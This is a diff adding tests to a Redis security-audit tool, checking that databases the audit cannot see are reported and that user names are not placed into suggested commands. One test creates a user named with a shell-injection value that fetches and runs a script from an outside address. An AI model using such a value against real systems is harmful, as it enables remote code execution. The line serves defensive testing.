@@ -69,6 +69,44 @@ describe('what an audit may not see', () => {
     expect(report.notTested).toContain('values of 1 keys: refused');
   });
 
+  test('of a database that does not exist is not "no keys"', async () => {
+    const server = await realRedis('--databases', '4');
+
+    const report = await audit(`127.0.0.1:${server.port}/9`);
+
+    expect(report.axes.infected.because).toBe('No sign so far, but 1 database is not visible.');
+    expect(report.axes.leaking.answer).toBe('not-visible');
+    expect(report.notTested.join()).toContain('SELECT 9 (ERR DB index is out of range): refused');
+  });
+
+  test('of databases beyond the limit, or without the right to select them, is said', async () => {
+    const server = await realRedis();
+    for (const db of [0, 1, 2]) {
+      await server.client.select(db);
+      await server.client.set('key', 'value');
+    }
+    await server.client.acl('SETUSER', 'zero', 'on', '>pw', '~*', '&*', '+@all', '-select');
+
+    const limited = await audit(`127.0.0.1:${server.port}`, { limits: { databases: 2 } });
+    const unable = await audit(`redis://zero:pw@127.0.0.1:${server.port}`);
+
+    expect(limited.axes.infected.answer).toBe('not-visible');
+    expect(limited.server?.keys).toBe(3);
+    expect(limited.notTested.join()).toContain('1 of its databases: one audit looks at 2');
+    expect(unable.axes.infected.because).toBe('No sign so far, but 2 databases are not visible.');
+  });
+
+  test('a user with a hostile name is not put into a command', async () => {
+    const server = await realRedis();
+    await server.client.acl('SETUSER', 'x;curl${IFS}203.0.113.9|sh', 'on', 'nopass', '~*', '+@all');
+
+    const report = await audit(`127.0.0.1:${server.port}`);
+
+    const finding = report.findings.find(({ rule }) => rule === 'audit.exposed.open-users');
+    expect(finding?.advice).toContain('ACL SETUSER NAME resetpass');
+    expect(finding?.advice).not.toContain('curl');
+  });
+
   test('says that the default user is open when another one was asked for', async () => {
     const server = await realRedis('--protected-mode', 'no', '--bind', '* -::*');
     await server.client.acl('SETUSER', 'ann', 'on', '>pw', '~*', '&*', '+@all');
